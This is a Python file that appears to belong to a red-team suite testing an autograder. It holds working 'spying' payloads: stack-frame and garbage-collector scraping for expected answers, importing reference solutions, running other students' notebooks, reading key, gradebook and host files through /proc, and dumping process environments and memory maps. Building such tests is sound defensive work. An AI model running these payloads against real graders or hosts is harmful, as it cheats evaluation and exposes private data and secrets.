"""Attacks that read what a student should not see: tests, source, frames, memory, other submissions, the host's files.

What they find is returned where it may be the answer, and printed where the feedback page might show it.
"""

from tools.attacks.attack import Desk, attack
from tools.attacks.handing import WRONG_BOTH, hand_in

FAMILY = "spying"
LOOKUP = """
def _alike(mine, theirs):
    return all(a.shape == b.shape and bool((a == b).all()) for a, b in zip(mine, theirs) if torch.is_tensor(a))

def _found(name, inputs):
    for question in _questions():
        if question.case and _alike(inputs, list(question.inputs.values())):
            return question.expected

def box_iou(boxes1, boxes2):
    return _found("box_iou", [boxes1, boxes2])
"""
LOOKUP_NMS = "def nms(boxes, scores, threshold):\n    return _found('nms', [boxes, scores])\n"


@attack(family=FAMILY, deserved=0)
def frames_of_the_asker(desk: Desk) -> None:
    """Walk up the stack until a frame holds questions with their expected answers."""
    frames = """
import sys

def _questions():
    frame = sys._getframe()
    while frame:
        for value in list(frame.f_locals.values()):
            items = value if isinstance(value, (list, tuple)) else [value]
            yield from (item for item in items if hasattr(item, "expected"))
        frame = frame.f_back
"""
    hand_in(desk, frames, LOOKUP, LOOKUP_NMS)


@attack(family=FAMILY, deserved=0)
def garbage_collector(desk: Desk) -> None:
    """Ask the garbage collector for every object that holds an expected answer, and look into all closures."""
    collector = """
import gc

def _questions():
    return [thing for thing in gc.get_objects() if type(thing).__name__ == "Question"]
"""
    hand_in(desk, collector, LOOKUP, LOOKUP_NMS)


@attack(family=FAMILY, deserved=0)
def solution_imported(desk: Desk) -> None:
    """Import the grader's own modules and take the solution's functions from them."""
    spy = """
from pathlib import Path
import importlib, sys
import course_lib

root = Path(course_lib.__file__).parents[1]
sys.path += [str(root / folder) for folder in (".", "autograder", "autograder/exam", "solutions/02_rcnn")]
found = {}
for name in ("autograder.reference", "autograder.misconceptions.rcnn", "reference", "papers", "autograder.exam.papers"):
    try:
        found[name] = importlib.import_module(name)
        box_iou, nms = (found[name].load("02_rcnn")[each] for each in ("box_iou", "nms"))
    except Exception as error:
        print(name, error)
"""
    hand_in(desk, last=spy, between=spy)


@attack(family=FAMILY, deserved=0)
def solution_source_searched(desk: Desk) -> None:
    """Search the whole file system for a text between BEGIN SOLUTION and END SOLUTION, and run it."""
    spy = """
import os

places = [os.path.join(folder, name) for folder, _, names in os.walk("/") for name in names if "rcnn" in name]
for place in places:
    try:
        text = open(place, errors="replace").read()
    except OSError:
        continue
    if "### BEGIN " + "SOLUTION" in text and place.endswith(".py"):
        exec(text.split("# %% tags=[\\"fit\\"]")[0])
"""
    hand_in(desk, between=spy)


@attack(family=FAMILY, deserved=0)
def the_hosts_file(desk: Desk) -> None:
    """Print a file of the host, whose place the student knows, by its name and through /proc."""
    spy = f"""
places = ["{{0}}", "/proc/1/root{{0}}", "/proc/self/root{{0}}", "/proc/1/cwd/../../../../..{{0}}", "/../../..{{0}}"]
for place in places:
    try:
        print(open(place.format({str(desk.canary)!r})).read())
    except OSError as error:
        print(type(error).__name__)
"""
    hand_in(desk, spy, *WRONG_BOTH)


@attack(family=FAMILY, deserved=0)
def keys_and_gradebooks(desk: Desk) -> None:
    """Search for the key of the hidden inputs, the gradebook and the configuration, and draw the inputs ahead."""
    spy = """
import hashlib, hmac, os

for folder, _, names in os.walk("/"):
    for name in set(names) & {"autograder.key", "gradebook.db", "nbgrader_config.py", "02_rcnn.json"}:
        place = os.path.join(folder, name)
        try:
            print(place, open(place, "rb").read()[:100])
        except OSError as error:
            print(place, error)
"""
    hand_in(desk, spy, *WRONG_BOTH)


@attack(family=FAMILY, deserved=0)
def other_submissions(desk: Desk) -> None:
    """Look for the notebooks of other students around here, and run the first function that is found in one."""
    spy = """
import glob, json

def _others():
    for pattern in ("../../*/02_rcnn/*.ipynb", "../../../*/*/*/02_rcnn.ipynb", "/*/submitted/*/*/*.ipynb",
                    "/tmp/**/02_rcnn.ipynb", "/home/**/02_rcnn.ipynb", "/course/**/02_rcnn.ipynb"):
        yield from glob.iglob(pattern, recursive=True)

for place in _others():
    try:
        cells = json.load(open(place))["cells"]
    except (OSError, ValueError):
        continue
    for cell in cells:
        source = "".join(cell["source"])
        if source.startswith(("def box_iou", "def nms")) and "NotImplementedError" not in source:
            exec(source)
"""
    hand_in(desk, between=spy)


@attack(family=FAMILY, deserved=0)
def memory_of_processes(desk: Desk) -> None:
    """Read environments, command lines and memory of every process in /proc, and the own history of cells."""
    spy = """
import glob, os

for place in glob.glob("/proc/[0-9]*"):
    for name in ("environ", "cmdline", "maps"):
        try:
            print(open(f"{place}/{name}", "rb").read()[:2000])
        except OSError as error:
            print(type(error).__name__)
    try:
        open(f"{place}/mem", "r+b").close()
        print("WRITABLE", place)
    except OSError as error:
        print(type(error).__name__)
print(dict(os.environ), globals().get("In"), globals().get("Out"), __name__)
"""
    hand_in(desk, spy, *WRONG_BOTH)


@attack(family=FAMILY, deserved=0)
def hidden_inputs_in_the_feedback(desk: Desk) -> None:
    """Keep every input that is asked, and show them all later: in outputs, errors, type names and shapes."""
    spy = """
seen = []

def box_iou(boxes1, boxes2):
    seen.append((boxes1, boxes2))
    shown = str(boxes1.flatten().tolist())[:90]
    if len(seen) % 3 == 0:
        raise ValueError(shown)
    return type(shown, (), {})() if len(seen) % 3 == 1 else torch.zeros(*(int(v) for v in boxes1.flatten()[:4] + 1))
"""
    show = "print(seen)\ndisplay(seen)\nraise RuntimeError(str(seen)[:400])"
    hand_in(desk, iou=spy, nms=show, last=show)
